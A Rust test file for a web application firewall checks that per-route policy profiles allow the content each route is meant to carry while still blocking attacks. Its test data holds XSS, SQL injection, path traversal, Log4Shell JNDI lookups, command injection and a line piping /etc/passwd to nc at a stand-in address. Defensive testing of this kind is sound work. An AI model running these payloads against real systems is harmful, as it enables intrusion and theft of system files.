//! Requests through the engine and the policy, with and without each profile: what its route carries by design is blocked
//! without it and passes with it, and an attack that it does not excuse is blocked all the same.

use std::sync::OnceLock;
use weir_core::engine::{InspectionOptions, Scratch, inspect};
use weir_core::parse::{facts, message};
use weir_core::ruleset::{Ruleset, builtin, compile};
use weir_policy::{Action, Policy, PolicyDoc, RequestContext, Settings, Source, profiles};

/// What a route carries, and what stays an attack there; requests as path, media type and body.
struct Route {
    profile: &'static str,
    carried: (&'static str, &'static str, &'static str),
    attacks: &'static [(&'static str, &'static str, &'static str)],
}

const JSON: &str = "application/json";

static ROUTES: &[Route] = &[
    Route {
        profile: "code",
        carried: ("/api", JSON, r#"{"name":"demo","code":"<script>document.write(location.hash)</script>"}"#),
        attacks: &[
            ("/api", JSON, r#"{"name":"<script>alert(1)</script>","code":"x"}"#),
            ("/api?file=../../../../etc/passwd", JSON, r#"{"code":"x"}"#),
            ("/api", JSON, r#"{"code":"${jndi:ldap://a.example/x}"}"#),
        ],
    },
    Route {
        profile: "query-language",
        carried: ("/api", JSON, r#"{"query":"1 union select name, price from products where 1=1 -- all"}"#),
        attacks: &[
            ("/api", JSON, r#"{"query":"<script>alert(1)</script>"}"#),
            ("/api", JSON, r#"{"query":"select 1","owner":"x' union select password from users -- "}"#),
        ],
    },
    Route {
        profile: "llm-chat",
        carried: ("/api", JSON, r#"{"prompt":"Is <img src=x onerror=alert(1)> dangerous?"}"#),
        attacks: &[
            ("/api", JSON, r#"{"messages":[],"model":"x' union select password from users -- "}"#),
            ("/api", JSON, r#"{"messages":[{"role":"user","content":"${jndi:ldap://a.example/x}"}]}"#),
            ("/api", "text/plain", "<script>alert(1)</script>"),
        ],
    },
    Route {
        profile: "telemetry",
        carried: ("/api", JSON, r#"{"message":"GET /?q=<script>alert(1)</script> 403"}"#),
        attacks: &[
            ("/api", JSON, r#"{"message":"ok","tenant":"1 union select password from users -- "}"#),
            ("/api", JSON, r#"{"message":"${jndi:ldap://a.example/x}"}"#),
        ],
    },
    Route {
        profile: "rich-text",
        carried: (
            "/api",
            JSON,
            r#"{"content":"<p>Log in with <b>' or 1=1 union select password from users -- </b></p>"}"#,
        ),
        attacks: &[
            ("/api", JSON, r#"{"content":"<p>Hello</p><script>alert(1)</script>"}"#),
            ("/api", JSON, r#"{"content":"<p>x</p>","author":"x; cat /etc/passwd"}"#),
        ],
    },
    Route {
        profile: "manifests",
        carried: ("/api", JSON, r#"{"kind":"Pod","spec":{"args":["sleep 5; cat /etc/passwd | nc 192.0.2.7 9"]}}"#),
        attacks: &[
            ("/api", JSON, r#"{"kind":"Pod;cat /etc/passwd","spec":{}}"#),
            ("/api", JSON, r#"{"spec":{"args":["${jndi:ldap://a.example/x}"]}}"#),
        ],
    },
];

fn ruleset() -> &'static Ruleset {
    static RULES: OnceLock<Ruleset> = OnceLock::new();
    RULES.get_or_init(|| compile::compile(&builtin::files()).expect("built-in rules compile"))
}

/// Whether the policy of `doc` blocks a request.
fn is_blocked(doc: &str, (target, media, body): (&str, &str, &str)) -> bool {
    let doc = PolicyDoc::parse("test.yaml", doc).expect("the document is valid");
    let policy = Policy::compile(&Settings::default(), Some(&doc)).expect("the policy compiles");
    let length = body.len();
    let raw = format!(
        "POST {target} HTTP/1.1\r\nHost: a.example\r\nContent-Type: {media}\r\nContent-Length: {length}\r\n\r\n{body}"
    );
    let message = message::request(raw.as_bytes());
    let facts = facts::facts(&message);
    let request = RequestContext {
        message: &message,
        facts: &facts,
        client: None,
        source: Source::default(),
        now: 0,
        blocking: true,
        request_id: "1",
    };
    let plan = policy.plan(&request);
    let found = inspect(&message, ruleset(), &InspectionOptions::default(), &mut Scratch::default(), &|| false);
    policy.decide(&request, &plan, Some(&found)).action == Action::Block
}

#[test]
fn a_profile_excuses_what_its_route_carries_and_nothing_else() {
    let mut wrong = Vec::new();
    for route in ROUTES {
        let with = format!("rules: [{{type: profile, profile: {}}}]", route.profile);
        if !is_blocked("rules: []", route.carried) {
            wrong.push(format!("{}: {:?} passes without the profile", route.profile, route.carried));
        }
        if is_blocked(&with, route.carried) {
            wrong.push(format!("{}: {:?} is blocked", route.profile, route.carried));
        }
        for attack in route.attacks {
            if !is_blocked(&with, *attack) {
                wrong.push(format!("{}: {attack:?} passes", route.profile));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn every_profile_is_tried() {
    let tried: Vec<&str> = ROUTES.iter().map(|route| route.profile).collect();
    let all: Vec<&str> = profiles().iter().map(|profile| profile.name.as_str()).collect();
    assert_eq!(tried, all);
}

/// A profile that an action confines to a route excuses nothing elsewhere.
#[test]
fn a_profile_holds_on_its_route_only() {
    let doc = "rules: [{type: profile, profile: code, action: [{type: equal, point: [path, 0], value: snippets}]}]";
    let code = r#"{"code":"<script>document.write(location.hash)</script>"}"#;
    assert!(!is_blocked(doc, ("/snippets/7", JSON, code)));
    assert!(is_blocked(doc, ("/users/7", JSON, code)));
}
